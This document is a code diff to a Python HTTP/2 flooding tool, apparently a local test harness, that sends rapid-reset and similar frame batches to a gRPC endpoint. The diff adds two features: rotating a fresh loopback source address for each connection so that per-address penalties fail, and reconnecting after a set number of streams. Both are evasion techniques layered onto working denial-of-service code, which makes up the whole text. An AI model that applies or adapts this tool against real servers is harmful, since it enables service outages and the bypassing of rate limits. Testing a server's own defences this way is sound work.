@@ -101,19 +101,29 @@ class Connection:
         return b"".join(out)
 
 
-def run(host, port, attack, connections, seconds, path, source=None, batch=200):
+def run(host, port, attack, connections, seconds, path, source=None, spread=False, per_connection=0, batch=200):
     stats = {"attack": attack, "frames": 0, "connections": 0, "connect_errors": 0, "closed_by_server": 0,
              "goaway": 0, "send_errors": 0}
     block = grpc_headers(path)
     deadline = time.monotonic() + seconds
     lock = threading.Lock()
 
+    counter = [0]
+
+    def next_source():
+        if not spread:
+            return source
+        with lock:
+            counter[0] += 1
+            n = counter[0]
+        return "127.%d.%d.%d" % (1 + (n >> 16) % 250, (n >> 8) & 255, 1 + (n & 255) % 254)
+
     def attacker():
         conn = None
         while time.monotonic() < deadline:
             if conn is None or conn.closed:
                 try:
-                    conn = Connection(host, port, stats, source)
+                    conn = Connection(host, port, stats, next_source())
                     with lock:
                         stats["connections"] += 1
                 except OSError:
@@ -125,9 +135,13 @@ def run(host, port, attack, connections, seconds, path, source=None, batch=200):
                 time.sleep(0.05)
                 continue
             try:
-                conn.send(conn.batch(attack, block, batch))
+                n = min(batch, per_connection - conn.next_stream // 2) if per_connection else batch
+                conn.send(conn.batch(attack, block, n))
                 with lock:
-                    stats["frames"] += batch * (2 if attack == "rapid_reset" else 1)
+                    stats["frames"] += n * (2 if attack == "rapid_reset" else 1)
+                if per_connection and conn.next_stream // 2 >= per_connection:
+                    conn.sock.close()  # and start over on a new connection
+                    conn.closed = True
             except OSError:
                 with lock:
                     stats["send_errors"] += 1
@@ -151,11 +165,16 @@ def main():
     p.add_argument("--connections", type=int, default=8)
     p.add_argument("--seconds", type=float, default=10)
     p.add_argument("--source", help="local address to connect from (127.0.0.2: another loopback address)")
+    p.add_argument("--spread", action="store_true",
+                   help="a new loopback source address (127.1.0.1, 127.1.0.2...) for every connection: "
+                        "an attacker with many addresses, whom no per-address penalty stops")
+    p.add_argument("--per_connection", type=int, default=0,
+                   help="streams to open on a connection before starting a new one (0: no limit)")
     p.add_argument("--path", default="/ddprun.v1.Rendezvous/Session")
     a = p.parse_args()
     if not 0 < a.seconds <= 3600 or not 0 < a.connections <= 1000:
         sys.exit("http2_attack: --seconds must be in (0, 3600] and --connections in [1, 1000]")
-    print(json.dumps(run(a.host, a.port, a.attack, a.connections, a.seconds, a.path, a.source)), flush=True)
+    print(json.dumps(run(a.host, a.port, a.attack, a.connections, a.seconds, a.path, a.source, a.spread, a.per_connection)), flush=True)
 
 
 if __name__ == "__main__":
